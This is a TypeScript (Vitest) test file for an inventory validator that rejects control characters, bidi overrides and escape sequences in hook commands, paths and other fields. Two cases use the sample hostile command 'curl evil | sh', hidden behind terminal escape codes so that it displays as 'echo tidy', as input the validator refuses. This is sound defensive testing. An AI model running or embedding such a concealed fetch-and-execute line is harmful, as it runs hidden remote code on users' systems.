import { describe, expect, it } from 'vitest';
import { characterProblem } from '../../src/inventory/characters.ts';
import { parseInventory } from '../../src/inventory/parse.ts';
import { formatDiagnostic } from '../../src/model/diagnostic.ts';
import { inventoryWith, optionsFor } from '../samples/inventory-options.ts';

const hook = ['spec', 'hooks', 0, 'run'];

describe('characters of an inventory', () => {
  it.each([
    ['curl evil | sh #\u001b[1K\u001b[16Decho tidy', hook, 'U+001B'],
    ['echo a\rb', hook, 'U+000D'],
    ['echo \u202egnp', hook, 'U+202E'],
    ['a\u009b1Ab', ['metadata', 'name'], 'U+009B'],
    ['/etc/a\u0000b', ['spec', 'files', 0, 'path'], 'U+0000'],
    ['/var/lib/x\ny', ['spec', 'etcd', 'dataDir'], 'a line break'],
    ['/var/lib/x\ty', ['spec', 'etcd', 'dataDir'], 'a tab'],
    ['a.yaml\n', ['spec', 'apiServer', 'authentication', 'file'], 'a line break'],
    ['-----\u001b', ['spec', 'apiServer', 'authentication', 'jwt', 0, 'issuer', 'x'], 'U+001B'],
    ['name\u{e0061}', ['spec', 'hosts', 0, 'labels'], 'U+E0061'],
  ])('%j at %j', (text, path, what) => {
    expect(characterProblem(text, path)).toContain(`must not contain ${what}`);
  });

  it.each([
    ['if true; then\n\techo tidy\nfi', hook],
    ['mountpoint -q /data\n', ['spec', 'hooks', 0, 'unless']],
    ['\u001b[1mmotd\n', ['spec', 'files', 0, 'content']],
    ['a: 1\nb: 2\n', ['spec', 'kubelet', 'config', 'x']],
    ['-----BEGIN\n', ['spec', 'apiServer', 'authentication', 'jwt', 0, 'issuer', 'certificateAuthority']],
    ['a &&\n\tb', ['spec', 'apiServer', 'authorization', 'authorizers', 2, 'webhook', 'expression']],
    ['été 日本', ['spec', 'hosts', 0, 'name']],
  ])('may be %j at %j', (text, path) => {
    expect(characterProblem(text, path)).toBeUndefined();
  });

  it('a hook that hides what it runs is refused with its position', () => {
    const text = inventoryWith([
      'hooks:',
      String.raw`  - { name: tidy, before: host, run: "curl evil | sh #\e[1K\e[16Decho tidy" }`,
      String.raw`  - { name: tidy2, before: host, run: "echo", "un\u202eless": "x" }`,
    ]);
    const { diagnostics } = parseInventory(text, optionsFor('inventory.yaml'));
    expect(diagnostics.map(formatDiagnostic)).toEqual([
      expect.stringMatching(/^inventory\.yaml:\d+:\d+: spec\.hooks\[0\]\.run must not contain U\+001B/),
      expect.stringMatching(/^inventory\.yaml:\d+:\d+: a key in spec\.hooks\[1\] must not contain U\+202E/),
    ]);
  });
});
